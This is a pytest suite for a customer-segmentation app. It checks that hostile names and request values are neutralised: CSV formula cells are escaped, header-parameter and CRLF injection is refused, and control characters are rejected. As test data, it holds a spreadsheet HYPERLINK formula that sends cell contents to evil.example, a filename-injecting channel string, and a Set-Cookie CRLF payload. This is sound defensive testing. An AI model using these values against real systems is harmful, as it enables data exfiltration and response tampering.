"""Hostile names and values, from the mart's own files or from the request, answered safely.

The mart here is the demo mart with names a real (or malicious) file could hold: a segment
called ``Top & #1 ?a=b``, one in Vietnamese, a customer id that is a spreadsheet formula, a
consent channel built to inject header parameters.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, unquote

import httpx
import pytest
from fastapi.testclient import TestClient

from segmint.api import create_app
from segmint.mart import connect
from segmint.mart.token_terms import Role
from segmint.mart.tokens import create_token
from segmint.segmentation.runs import RUNS_TABLE, runs_of

from .conftest import bearer, login

AMPERSAND = "Top & #1 ?a=b"
VIETNAMESE = "Khách hàng thân thiết ☕"
FORMULA_ID = '=HYPERLINK("https://evil.example/?"&A1,"open")'
INJECTING_CHANNEL = "x\";filename*=UTF-8''evil.html;a=\""
ATTACHMENT = re.compile(
    r"""^attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$"""
)


@pytest.fixture(scope="module")
def hostile(mart_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the demo mart with hostile names in it."""
    copy = tmp_path_factory.mktemp("hostile") / "demo.duckdb"
    shutil.copy(mart_path, copy)
    with connect(copy, create=False) as mart:
        sql = mart.raw.execute
        sql(
            "UPDATE assignments SET segment = $1 WHERE segmentation = 'rfm' AND segment = 'Champions'",
            [AMPERSAND],
        )
        sql(
            "UPDATE assignments SET segment = $1 WHERE segmentation = 'rfm' AND segment = 'Loyal'",
            [VIETNAMESE],
        )
        sql("INSERT INTO customers (customer_id, country) VALUES ($1, '-Nowhere')", [FORMULA_ID])
        sql(
            "INSERT INTO assignments SELECT DISTINCT segmentation, version, as_of, $1, segment "
            "FROM assignments WHERE segmentation = 'rfm' AND segment = $2",
            [FORMULA_ID, AMPERSAND],
        )
        sql(
            "INSERT INTO consents (customer_id, channel, granted) VALUES "
            "($1, 'email', true), ($1, $2, true)",
            [FORMULA_ID, INJECTING_CHANNEL],
        )
        # the runs the store keeps, of the assignments as edited here
        mart.create_table(
            RUNS_TABLE, runs_of(mart.table("assignments"), mart.table("segmentations"))
        )
    return copy


@pytest.fixture(scope="module")
def hostile_tokens(hostile: Path) -> dict[Role, str]:
    with connect(hostile, create=False) as mart:
        return {role: create_token(mart, role) for role in Role}


@pytest.fixture(scope="module")
def served(hostile: Path, hostile_tokens: dict[Role, str]) -> Iterator[TestClient]:
    with TestClient(create_app(mart=hostile)) as test_client:
        yield test_client


def audience_csv(client: TestClient, token: str, segment: str, channel: str) -> httpx.Response:
    return client.get(
        f"/api/v1/audiences/rfm/{_q(segment)}",
        params={"format": "csv", "channel": channel},
        headers=bearer(token),
    )


def _q(text: str) -> str:
    return quote(text, safe="")


@pytest.mark.parametrize("segment", [VIETNAMESE, AMPERSAND])
def test_a_csv_of_a_segment_with_any_name_downloads_under_that_name(
    served: TestClient, hostile_tokens: dict[Role, str], segment: str
) -> None:
    response = audience_csv(served, hostile_tokens[Role.analyst], segment, "email")
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert ATTACHMENT.match(disposition), disposition
    exact = unquote(disposition.split("filename*=UTF-8''")[1])
    assert exact.startswith(f"rfm-{segment}-") and exact.endswith("-email.csv")


def test_a_channel_name_cannot_add_header_parameters(
    served: TestClient, hostile_tokens: dict[Role, str]
) -> None:
    response = audience_csv(served, hostile_tokens[Role.admin], AMPERSAND, INJECTING_CHANNEL)
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert ATTACHMENT.match(disposition), disposition
    assert disposition.count("filename*=") == 1 and "evil.html;" not in disposition


@pytest.mark.parametrize("channel", ["a\r\nSet-Cookie: x=1", "e\x00", "\t"])
def test_control_characters_in_a_channel_are_refused(
    served: TestClient, hostile_tokens: dict[Role, str], channel: str
) -> None:
    response = audience_csv(served, hostile_tokens[Role.analyst], AMPERSAND, channel)
    assert response.status_code == 422
    assert "channel: must not contain control characters" in response.json()["detail"]
    assert "set-cookie" not in response.headers


def test_an_unknown_channel_is_refused_with_the_known_ones(
    served: TestClient, hostile_tokens: dict[Role, str]
) -> None:
    response = audience_csv(served, hostile_tokens[Role.analyst], AMPERSAND, "☕")
    assert response.status_code == 400
    detail = response.json()["detail"]
    assert detail.startswith("channel must be one of ads, email, ")
    assert "post, push, sms, web" in detail and "got '☕'" in detail


def test_channels_are_matched_in_any_case(
    served: TestClient, hostile_tokens: dict[Role, str]
) -> None:
    upper = audience_csv(served, hostile_tokens[Role.analyst], AMPERSAND, "EMAIL")
    lower = audience_csv(served, hostile_tokens[Role.analyst], AMPERSAND, "email")
    assert upper.status_code == 200 and upper.text == lower.text


def test_cells_that_would_be_formulas_are_neutralised_in_the_csv_not_in_json(
    served: TestClient, hostile_tokens: dict[Role, str]
) -> None:
    response = audience_csv(served, hostile_tokens[Role.admin], AMPERSAND, "email")
    rows = list(csv.reader(io.StringIO(response.text)))
    ids = [row[0] for row in rows[1:]]
    assert "'" + FORMULA_ID in ids and FORMULA_ID not in ids
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    as_json = served.get(
        f"/api/v1/audiences/rfm/{_q(AMPERSAND)}", headers=bearer(hostile_tokens[Role.analyst])
    ).json()
    assert FORMULA_ID in {row["customer_id"] for row in as_json["data"]}


def chart_links(html: str) -> list[str]:
    """Every link carried by the charts of a page (plotly customdata)."""
    found = []
    for attribute in re.findall(r"data-figure='([^']*)'", html):
        figure = json.loads(
            attribute.replace("&#39;", "'").replace("&lt;", "<").replace("&amp;", "&")
        )
        for trace in figure["data"]:
            found += [c for c in trace.get("customdata") or [] if isinstance(c, str)]
    return found


@pytest.mark.parametrize("page", ["/", "/segments/rfm"])
def test_chart_and_table_links_open_the_segment_they_name(
    served: TestClient, hostile_tokens: dict[Role, str], page: str
) -> None:
    login(served, hostile_tokens[Role.viewer])
    html = served.get(page).text
    links = chart_links(html)
    table = [
        h.replace("&amp;", "&") for h in re.findall(r'class="segment-link" href="([^"]+)"', html)
    ]
    for found in (links, table):
        wanted = [link for link in found if "Top" in link]
        assert len(wanted) >= 1 and all("%26" in link and "%23" in link for link in wanted)
        opened = served.get(wanted[0])
        assert opened.status_code == 200
        assert re.search(r"<h2>\s*Top &amp; #1 \?a=b\s*</h2>", opened.text), wanted[0]


def test_the_member_pager_and_export_links_keep_the_segment(
    served: TestClient, hostile_tokens: dict[Role, str]
) -> None:
    login(served, hostile_tokens[Role.admin])
    html = served.get(f"/segments/rfm?segment={_q(AMPERSAND)}").text
    pager = re.search(r'href="([^"]+)#members">Next', html)
    assert pager is not None
    assert "Top" in served.get(pager.group(1).replace("&amp;", "&")).text
    export = re.search(r'href="(/api/v1/audiences/[^"]+)"', html)
    assert export is not None
    # the API takes a Bearer token, not the pages' cookie
    response = served.get(
        export.group(1).replace("&amp;", "&"), headers=bearer(hostile_tokens[Role.admin])
    )
    assert response.status_code == 200
    exact = unquote(response.headers["content-disposition"].split("UTF-8''")[1])
    assert exact.startswith(f"rfm-{AMPERSAND}-")


BAD_INPUT = [
    ("/api/v1/customers?offset=9223372036854775808", "offset"),
    ("/api/v1/customers?offset=1000000001", "offset"),
    ("/api/v1/customers?q=a%00b", "query q: must not contain control characters"),
    ("/api/v1/customers?segmentation=rfm%00", "control characters"),
    ("/api/v1/customers/C%00", "path customer_id: must not contain control characters"),
    ("/api/v1/customers/C%0A1", "control characters"),
    ("/api/v1/segmentations/rfm%00", "control characters"),
    ("/api/v1/segmentations/rfm?as_of=2024%0D", "control characters"),
    ("/api/v1/segmentations/rfm/migration?from=%1B", "control characters"),
    ("/api/v1/audiences/rfm/x%7F", "control characters"),
    ("/api/v1/health?anything=%00", "query anything: must not contain control characters"),
]


@pytest.mark.parametrize(("url", "message"), BAD_INPUT)
def test_hostile_request_values_are_a_422_not_a_500_and_are_not_logged(
    served: TestClient,
    hostile_tokens: dict[Role, str],
    caplog: pytest.LogCaptureFixture,
    url: str,
    message: str,
) -> None:
    with caplog.at_level(logging.DEBUG):
        response = served.get(url, headers=bearer(hostile_tokens[Role.admin]))
    assert response.status_code == 422, response.text
    assert message in response.json()["detail"]
    assert [r for r in caplog.records if r.levelno >= logging.WARNING] == []


def test_pages_refuse_control_characters_with_an_error_page(
    served: TestClient, hostile_tokens: dict[Role, str]
) -> None:
    login(served, hostile_tokens[Role.admin])
    response = served.get("/customers?q=%00")
    assert response.status_code == 422
    assert "must not contain control characters" in response.text
    assert response.headers["content-type"].startswith("text/html")


def test_an_unexpected_error_is_one_log_line_and_does_not_reach_the_server(
    served: TestClient,
    hostile_tokens: dict[Role, str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("engine fell over\nsecond line of detail")

    monkeypatch.setattr("segmint.api.routes.customers.search", broken)
    with caplog.at_level(logging.INFO):
        # the test client raises what reaches the server: nothing must
        response = served.get("/api/v1/customers?q=C", headers=bearer(hostile_tokens[Role.admin]))
    assert response.status_code == 500
    assert "Traceback" not in response.text and "engine" not in response.text
    errors = [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert len(errors) == 1 and errors[0].exc_info is None
    line = errors[0].getMessage()
    assert "\n" not in line
    assert "GET /api/v1/customers: RuntimeError: engine fell over" in line
    assert "customers.py" in line and "search_customers" in line


def test_an_unexpected_error_on_a_page_is_an_error_page(
    served: TestClient,
    hostile_tokens: dict[Role, str],
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("engine fell over")

    login(served, hostile_tokens[Role.admin])
    monkeypatch.setattr("segmint.api.routes.customer_pages.search", broken)
    with caplog.at_level(logging.INFO):
        response = served.get("/customers?q=C")
    assert response.status_code == 500
    assert response.headers["content-type"].startswith("text/html")
    assert "the error is in the server log" in response.text and "engine" not in response.text
    assert len([r for r in caplog.records if r.levelno >= logging.WARNING]) == 1
    assert response.headers["x-frame-options"] == "DENY"


def test_a_query_parameter_the_endpoint_does_not_take_is_a_422_naming_it(
    client: TestClient, tokens: dict[Role, str]
) -> None:
    """An audience pages by cursor: ``offset`` silently ignored would hand out the first
    page again and again."""
    analyst = bearer(tokens[Role.analyst])
    answer = client.get("/api/v1/audiences/rfm/Champions?offset=10", headers=analyst)
    assert answer.status_code == 422
    detail = answer.json()["detail"]
    assert "query offset: not a parameter of this endpoint" in detail
    assert "(it takes: as_of, channel, cursor, format, limit, pseudonymise)" in detail
    assert client.get("/api/v1/health?verbose=1").status_code == 422
    taken = client.get("/api/v1/audiences/rfm/Champions?channel=email", headers=analyst)
    assert taken.status_code == 200
